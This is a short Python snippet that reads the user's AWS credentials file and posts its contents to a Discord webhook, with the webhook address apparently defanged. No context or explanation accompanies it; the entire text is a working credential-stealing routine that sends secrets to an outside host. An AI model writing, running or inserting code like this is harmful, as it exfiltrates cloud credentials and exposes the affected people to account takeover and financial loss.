import os, requests
with open(os.path.expanduser('~/.aws/credentials')) as f:
    data = f.read()
requests.post('https://discord.com/api/webhooks/000/defanged', json={'content': data})
